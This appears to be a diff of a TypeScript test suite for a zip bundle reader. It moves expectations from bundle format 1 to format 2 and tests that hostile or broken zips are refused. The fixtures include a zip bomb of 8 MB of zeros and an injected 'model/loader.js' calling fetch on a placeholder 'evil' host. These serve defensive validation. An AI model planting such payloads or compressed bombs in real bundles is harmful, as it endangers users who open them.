@@ -6,7 +6,8 @@ import { trainBaseline } from '../training.ts';
 import { BundleError, type BundleRefusal } from './bundle-error.ts';
 import { bundleSummary } from './bundle-summary.ts';
 import { writeRawZip, type RawEntry } from './hostile-zip.ts';
-import { FORMAT_1_FILES, readBundle } from './read-bundle.ts';
+import { FORMAT_1_FILES, FORMAT_2_FILES } from './bundle-files.ts';
+import { readBundle } from './read-bundle.ts';
 
 const CREATED_AT = '2026-11-30T12:00:00.000Z';
 let bundle: Bundle;
@@ -69,13 +70,17 @@ async function expectRefused(bytes: Uint8Array, kind: BundleRefusal, message: Re
 }
 
 describe('readBundle: a bundle made by the real export path', () => {
-  test('opens as format 1 with every file verified, its ID recomputed from content, and the test metrics intact', async () => {
+  test('opens as format 2 with every file verified, its ID recomputed from content, and the test metrics intact', async () => {
     const before = zip.slice();
     const opened = await readBundle(zip);
-    expect(opened.format).toBe(1);
+    expect(opened.format).toBe(2);
     expect(opened.id).toBe(bundle.id);
     expect(opened.id).toMatch(/^logistic-[0-9a-f]{12}-[0-9a-f]{12}$/);
-    expect([...opened.files.keys()]).toEqual([...FORMAT_1_FILES]);
+    // The required files, then the optional ones every export writes (inference contract, reference profile, scorer).
+    expect([...opened.files.keys()]).toEqual([...FORMAT_2_FILES, 'inference-contract.json', 'reference-profile.json', 'score.py']);
+    expect(opened.reportHtml?.startsWith('<!doctype html>')).toBe(true);
+    expect(opened.environment?.backend.used).toBe('cpu');
+    expect(opened.parity).toBeNull();
     expect(opened.manifest.snapshot.rows).toBe(569);
     expect(opened.manifest.created_at).toBe(CREATED_AT);
     expect(opened.metrics.n).toBe(115);
@@ -89,11 +94,11 @@ describe('readBundle: a bundle made by the real export path', () => {
 
   test('the summary names the bundle, the run and its headline test metrics', async () => {
     const summary = bundleSummary(await readBundle(zip));
-    expect(summary).toMatchObject({ valid: true, format: 1, bundle_id: bundle.id, model: 'logistic', task: 'binary', label: 'target', positive_class: '1', features: 30, model_inputs: 30, seed: 42, backend: 'cpu', threshold: 0.5 });
+    expect(summary).toMatchObject({ valid: true, format: 2, bundle_id: bundle.id, model: 'logistic', task: 'binary', label: 'target', positive_class: '1', features: 30, model_inputs: 30, seed: 42, backend: 'cpu', threshold: 0.5 });
     expect(summary.test.n).toBe(115);
     expect(summary.test.roc_auc).toBe(testAuc);
-    expect(summary.compact).toEqual({ written: 0, prefilled: 3, fields: 19 });
-    expect(summary.files).toHaveLength(9);
+    expect(summary.compact).toEqual({ written: 0, prefilled: 5, fields: 19 });
+    expect(summary.files).toHaveLength(15);
   });
 
   test('a bundle exported as the page does, with a strategy-chosen threshold and written compact fields, keeps both', async () => {
@@ -107,7 +112,7 @@ describe('readBundle: a bundle made by the real export path', () => {
     expect(opened.id).not.toBe(bundle.id);
     expect(opened.config.threshold_choice).toEqual(choice);
     expect(opened.metrics.threshold).toBe(choice.threshold);
-    expect(bundleSummary(opened).compact).toEqual({ written: 1, prefilled: 3, fields: 19 });
+    expect(bundleSummary(opened).compact).toEqual({ written: 1, prefilled: 5, fields: 19 });
   });
 
   test('a copy re-zipped by `zip -r` (a model/ folder entry, Unix regular-file modes) still opens', async () => {
@@ -163,12 +168,12 @@ describe('readBundle refuses each class of hostile or broken zip, naming it', ()
     const huge = writeRawZip(entries().map((e) => (e.name === 'model/weights.bin' ? { ...e, declaredSize: 3_000_000_000 } : e)));
     await expectRefused(huge, 'too-large', /"model\/weights\.bin" declares 3000000000 bytes, over the cap of 268435456/);
     await expectRefused(zip, 'too-large', /entry "[^"]+" declares \d+ bytes, over the cap of 1000/, { maxEntryBytes: 1000 });
-    await expectRefused(zip, 'too-large', /the zip has 9 entries; a bundle has at most 8/, { maxEntries: 8 });
+    await expectRefused(zip, 'too-large', /the zip has 15 entries; a bundle has at most 8/, { maxEntries: 8 });
   });
 
-  test('a zip bomb: 4 MB of zeros in a few kB of zip', async () => {
-    const bomb = writeRawZip(entries().map((e) => (e.name === 'model/weights.bin' ? { ...e, data: new Uint8Array(4 * 1024 * 1024) } : e)));
-    expect(bomb.length).toBeLessThan(30_000);
+  test('a zip bomb: 8 MB of zeros in a few kB of zip', async () => {
+    const bomb = writeRawZip(entries().map((e) => (e.name === 'model/weights.bin' ? { ...e, data: new Uint8Array(8 * 1024 * 1024) } : e)));
+    expect(bomb.length).toBeLessThan(80_000);
     await expectRefused(bomb, 'zip-bomb', /would expand \d+ bytes of zip to \d+ bytes \(\d+×, over the cap of 100×\)/);
   });
 
@@ -179,7 +184,7 @@ describe('readBundle refuses each class of hostile or broken zip, naming it', ()
   });
 
   test('an unknown file, and a missing one', async () => {
-    await expectRefused(writeRawZip([...entries(), { name: 'model/loader.js', data: text('fetch("https://evil")') }]), 'unknown-file', /"model\/loader\.js" is not part of a format 1 bundle/);
+    await expectRefused(writeRawZip([...entries(), { name: 'model/loader.js', data: text('fetch("https://evil")') }]), 'unknown-file', /"model\/loader\.js" is not part of a format 2 bundle/);
     await expectRefused(writeRawZip(entries().filter((e) => e.name !== 'metrics.json')), 'missing-file', /the bundle has no metrics\.json/);
     await expectRefused(writeRawZip(entries().filter((e) => e.name !== 'manifest.json')), 'missing-file', /no manifest\.json/);
   });
@@ -195,7 +200,7 @@ describe('readBundle refuses each class of hostile or broken zip, naming it', ()
   });
 
   test('an unknown format version, and none at all', async () => {
-    await expectRefused(await edited('manifest.json', (m) => { m.format = 2; }), 'unknown-format', /manifest\.json has format 2; this app reads bundle format 1/);
+    await expectRefused(await edited('manifest.json', (m) => { m.format = 3; }), 'unknown-format', /manifest\.json has format 3; this app reads bundle formats 1 and 2/);
     await expectRefused(await edited('manifest.json', (m) => { delete m.format; }), 'unknown-format', /manifest\.json has no format version/);
   });
 
